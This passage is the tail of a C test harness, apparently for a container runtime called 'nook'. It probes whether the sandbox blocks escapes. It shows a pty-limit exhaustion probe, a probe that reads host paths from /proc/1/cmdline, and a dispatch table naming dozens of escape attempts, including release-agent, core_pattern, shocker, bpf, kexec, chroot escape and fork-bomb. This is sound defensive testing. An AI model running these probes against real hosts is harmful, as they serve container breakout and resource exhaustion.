	char line[1024], *opts = NULL;
	FILE *f = fopen("/proc/self/mountinfo", "re");
	int fds[16], n = 0;

	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, " /dev/pts ") && strstr(line, " - devpts ")) {
			opts = strdup(strstr(line, " - devpts ") + 10);
			break;
		}
	if (f)
		fclose(f);
	if (!opts)
		return say(NOT_APPLICABLE, "no devpts on /dev/pts");
	opts[strcspn(opts, "\n")] = '\0';
	while (n < 16 && (fds[n] = open("/dev/pts/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC)) >= 0)
		n++;
	if (n < 16)
		return say(REFUSED, "opened %d ptys, then: %s (%s)", n, ename(errno), opts);
	if (!strstr(opts, "max="))
		return say(SUCCEEDED, "devpts without max= (%s): ptys up to the host's pty.max",
			   opts);
	return say(REFUSED, "devpts has a limit: %s", opts);
}

/**
 * Finding 15: PID 1 is nook's init, a copy of nook: /proc/1/cmdline, which needs no
 * ptrace access, is nook's whole command line on the host — where the image, the volumes
 * and the seccomp profile are on the host's disk, every --env, the options it runs with.
 */
static int
init_cmdline(void)
{
	char buf[8192], *rootfs = NULL;
	int fd = open("/proc/1/cmdline", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);

	if (n < 0)
		return say(REFUSED, "/proc/1/cmdline: %s", ename(errno));
	buf[n] = '\0';
	for (char *a = buf; a < buf + n; a += strlen(a) + 1) {
		if (strcmp(a, "--") == 0)
			break; /* the command's own arguments: ours to know */
		if (strcmp(a, "--rootfs") == 0 && a + strlen(a) + 1 < buf + n)
			rootfs = a + strlen(a) + 1;
	}
	if (rootfs)
		return say(SUCCEEDED, "/proc/1/cmdline says where the image is on the host: %s",
			   rootfs);
	return say(REFUSED, "/proc/1/cmdline shows no host path (%zd bytes)", n);
}

/* ---- the table ---------------------------------------------------------------------------- */

#define NARGS(n) (argc == (n) + 2)

int
main(int argc, char *argv[])
{
	const char *a = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(a, "init-fds") == 0 && NARGS(2))
		return walk_fds("/proc/1/fd", -1, argv[2], argv[3]);
	if (strcmp(a, "inherited-fds") == 0 && NARGS(2))
		return walk_fds("/proc/self/fd", 2, argv[2], argv[3]);
	if (strcmp(a, "mknod-disk") == 0 && NARGS(2))
		return mknod_disk(argv[2], argv[3]);
	if (strcmp(a, "mknod-kmsg") == 0 && NARGS(0))
		return mknod_kmsg();
	if (strcmp(a, "tiocsti") == 0 && NARGS(1))
		return tiocsti(argv[2]);
	if (strcmp(a, "kill-group") == 0 && NARGS(0))
		return kill_group();
	if (strcmp(a, "env") == 0 && NARGS(2))
		return env_leak(argv[2], argv[3]);
	if (strcmp(a, "deep-nest") == 0 && NARGS(2))
		return deep_nest(argv[2], atol(argv[3]));
	if (strcmp(a, "init-mem") == 0 && NARGS(0))
		return init_mem();
	if (strcmp(a, "init-exe") == 0 && NARGS(0))
		return init_exe();
	if (strcmp(a, "forge-error") == 0 && NARGS(1))
		return forge_error(argv[2]);
	if (strcmp(a, "cgroups") == 0 && NARGS(1)) /* the argument only marks the process */
		return cgroups();
	if (strcmp(a, "shm-size") == 0 && NARGS(0))
		return shm_size();
	if (strcmp(a, "vsock") == 0 && NARGS(0))
		return vsock();
	if (strcmp(a, "stdout-file") == 0 && NARGS(1))
		return stdout_file(argv[2]);
	if (strcmp(a, "mount") == 0 && NARGS(0))
		return mount_attack();
	if (strcmp(a, "shocker") == 0 && NARGS(1))
		return shocker(argv[2]);
	if (strcmp(a, "ptrace") == 0 && NARGS(0))
		return ptrace_init();
	if (strcmp(a, "keyctl") == 0 && NARGS(0))
		return keyctl_attack();
	if (strcmp(a, "bpf") == 0 && NARGS(0))
		return bpf_attack();
	if (strcmp(a, "perf") == 0 && NARGS(0))
		return perf_attack();
	if (strcmp(a, "userfaultfd") == 0 && NARGS(0))
		return userfaultfd_attack();
	if (strcmp(a, "kexec") == 0 && NARGS(0))
		return kexec_attack();
	if (strcmp(a, "modules") == 0 && NARGS(0))
		return modules_attack();
	if (strcmp(a, "unshare") == 0 && NARGS(0))
		return unshare_attack();
	if (strcmp(a, "io_uring") == 0 && NARGS(0))
		return io_uring_attack();
	if (strcmp(a, "personality") == 0 && NARGS(0))
		return personality_attack();
	if (strcmp(a, "other-abis") == 0 && NARGS(0))
		return other_abis();
	if (strcmp(a, "release-agent") == 0 && NARGS(0))
		return release_agent();
	if (strcmp(a, "core-pattern") == 0 && NARGS(0))
		return open_for_writing("/proc/sys/kernel/core_pattern");
	if (strcmp(a, "sysrq") == 0 && NARGS(0))
		return open_for_writing("/proc/sysrq-trigger");
	if (strcmp(a, "chroot") == 0 && NARGS(1))
		return chroot_escape(argv[2]);
	if (strcmp(a, "setuid") == 0 && NARGS(0))
		return setuid_root();
	if (strcmp(a, "fork-bomb") == 0 && NARGS(1))
		return fork_bomb(atol(argv[2]));
	if (strcmp(a, "hold-stdout") == 0 && NARGS(1))
		return hold_stdout(atol(argv[2]));
	if (strcmp(a, "tioccons") == 0 && NARGS(0))
		return tioccons();
	if (strcmp(a, "fs-room") == 0 && NARGS(2))
		return fs_room(argv[2], atol(argv[3]));
	if (strcmp(a, "pty-limit") == 0 && NARGS(0))
		return pty_limit();
	if (strcmp(a, "init-cmdline") == 0 && NARGS(0))
		return init_cmdline();
	if (strcmp(a, "hog") == 0 && NARGS(1))
		return hog(atol(argv[2]));
	fprintf(stderr, "usage: attack SUBCOMMAND [ARG...]; see tests/escapes/attack.c\n");
	return MISUSE;
}
